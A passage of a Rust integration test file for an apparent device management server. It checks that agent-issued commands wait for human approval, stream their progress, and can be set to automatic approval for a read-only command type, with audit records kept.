        let res = app.oneshot(req).await.unwrap();
        let mut body = res.into_body();
        while let Some(Ok(frame)) = body.frame().await {
            if let Ok(data) = frame.into_data() {
                let _ = chunks_tx.send(String::from_utf8_lossy(&data).into_owned());
            }
        }
    });
    let id = pending_id(&w).await;
    let cookie = login(&w.app, "admin@p.test").await;
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let ServerFrame::Command(cmd) = next_frame(&mut ws).await else {
        panic!("the approved scan reaches the agent")
    };
    send_frame(&mut ws, &AgentFrame::CommandStarted { command_id: cmd.id }).await;
    send_frame(
        &mut ws,
        &AgentFrame::CommandProgress(CommandProgress {
            command_id: cmd.id,
            progress: 64.0,
            total: Some(256.0),
            message: Some("scanned 64 of 256 hosts".into()),
        }),
    )
    .await;
    // The progress arrives while the scan is still running (no result has been sent yet).
    let mut seen = String::new();
    tokio::time::timeout(Duration::from_secs(30), async {
        while !seen.contains("scanned 64 of 256 hosts") {
            seen.push_str(&chunks.recv().await.expect("the stream stays open"));
        }
    })
    .await
    .unwrap_or_else(|_| panic!("the agent's progress never reached the client: {seen}"));
    assert!(
        !seen.contains("\"result\""),
        "progress came before the result: {seen}"
    );
    let now = w.state.clock.now();
    send_frame(
        &mut ws,
        &AgentFrame::CommandResult(CommandResult {
            command_id: cmd.id,
            status: CommandOutcome::Completed,
            exit_code: Some(0),
            stdout: String::new(),
            stderr: String::new(),
            stdout_truncated: false,
            stderr_truncated: false,
            result: Some(json!({ "hosts": [] })),
            error: None,
            started_at: now,
            finished_at: now,
        }),
    )
    .await;
    tokio::time::timeout(Duration::from_secs(30), async {
        while !seen.contains("\"result\"") {
            seen.push_str(&chunks.recv().await.expect("the result follows"));
        }
    })
    .await
    .unwrap_or_else(|_| panic!("no result: {seen}"));
    assert!(seen.contains("\"status\":\"completed\""), "{seen}");
}

/// Issue #20 item 7: every `execute_command` type waits for a person by default; an
/// organization may make a read-only command type automatic — the call still becomes a durable
/// request, approved by the policy (no person, audited as the requester's), and runs once in
/// the same call; back to supervised, it waits again.
async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let (device, mut ws) = connected_agent(&w).await;
    let list = json!({ "deviceId": device, "commandType": "list_processes" });
    let spawn_call = |args: Value| {
        let (app, req) = (w.app.clone(), tools_call(&key, "execute_command", args));
        tokio::spawn(async move { send(&app, req).await })
    };
    let org = w.store.org(w.org_a);
    let cookie = login(&w.app, "admin@p.test").await;

    // By default: pending, supervised; the person denies it.
    let call = spawn_call(list.clone());
    let id = pending_id(&w).await;
    let r = org
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    assert_eq!(
        (r.status.as_str(), r.mode.as_str()),
        ("pending", "supervised")
    );
    assert_eq!(r.action.as_deref(), Some("list_processes"));
    let d = send(&w.app, decide(&cookie, &id, "deny", None)).await;
    assert_eq!(d.status, StatusCode::OK, "{}", d.body);
    let (result, _) = result_of(&call.await.unwrap());
    assert_eq!(result["isError"], true, "{result}");

    // The organization opts in for list_processes: the call runs without a person.
    org.approvals()
        .set_approval_policy(
            "execute_command.list_processes",
            "automatic",
            audit("approval_policy.set"),
        )
        .await
        .unwrap();
    let call = spawn_call(list.clone());
    let ServerFrame::Command(cmd) = next_frame(&mut ws).await else {
        panic!("the automatically approved command reaches the agent")
    };
    let now = w.state.clock.now();
    send_frame(
        &mut ws,
        &AgentFrame::CommandResult(CommandResult {
            command_id: cmd.id,
            status: CommandOutcome::Completed,
            exit_code: Some(0),
            stdout: String::new(),
            stderr: String::new(),
            stdout_truncated: false,
            stderr_truncated: false,
            result: Some(json!({ "processes": [] })),
            error: None,
            started_at: now,
            finished_at: now,
        }),
    )
    .await;
    let reply = call.await.unwrap();
    let (result, _) = result_of(&reply);
    assert_ne!(result["isError"], true, "{}", reply.body);
    assert_eq!(
        result["structuredContent"]["status"], "completed",
        "{result}"
    );
    let r = org
        .approvals()
        .list_approvals(false, 10)
        .await
        .unwrap()
        .remove(0);
    assert_eq!(r.mode, "automatic");
    assert_eq!(r.status.as_str(), "completed", "ran once, recorded");
    assert_eq!(r.decided_by, None, "no person decided");
    assert_eq!(
        r.reason.as_deref(),
        Some("automatic: organization policy for execute_command.list_processes")
    );
    assert!(!w.store.claim_approval(r.id).await.unwrap());
    let page = org
        .audit()
        .query_audit(
            &breeze_store::AuditFilter {
                action: Some("approval.auto_approved".into()),
                ..Default::default()
            },
            None,
            10,
        )
        .await
        .unwrap();
    assert_eq!(page.records.len(), 1);
    let e = &page.records[0].event;
    assert_eq!(e.resource_id, Some(r.id.to_string()));
    assert_eq!(e.actor.kind, breeze_core::ActorType::ApiKey);
    assert_eq!(
        Some(e.actor.id.clone()),
        r.api_key_id.map(|k| k.to_string())
    );

    // Other command types still wait for a person.
    let kill = spawn_call(json!({ "deviceId": device, "commandType": "kill_process",
                                  "payload": { "pid": 42 } }));
    let id = pending_id(&w).await;
    let r = org
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    assert_eq!(
        (r.action.as_deref(), r.mode.as_str()),
        (Some("kill_process"), "supervised")
    );
    send(&w.app, decide(&cookie, &id, "deny", None)).await;
    kill.await.unwrap();

    // Back to supervised: pending again.
    org.approvals()
        .set_approval_policy(
            "execute_command.list_processes",
            "supervised",
            audit("approval_policy.set"),
        )
        .await
        .unwrap();
    let call = spawn_call(list);
    let id = pending_id(&w).await;
    let r = org
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    assert_eq!(
        (r.status.as_str(), r.mode.as_str()),
        ("pending", "supervised")
    );
    send(&w.app, decide(&cookie, &id, "deny", None)).await;
    call.await.unwrap();
}

breeze_store::on_both_backends!(
    automatic_approval_for_a_read_only_command_type,
    cancelling_a_waiting_call_withdraws_its_request,
    a_pending_answer_detaches_the_request,
    calls_that_cannot_run_are_refused_before_anyone_is_asked,
    an_approval_pins_the_script_it_runs,
    a_revoked_or_disabled_requester_voids_the_request,
    progress_of_an_approved_call_reaches_its_caller,
    approve_runs_once_and_only_once,
    deny_expire_and_report,
    four_eyes_and_permissions,
    pending_answers_status_tool_and_pinning,
    the_wait_has_a_circuit_breaker,
);
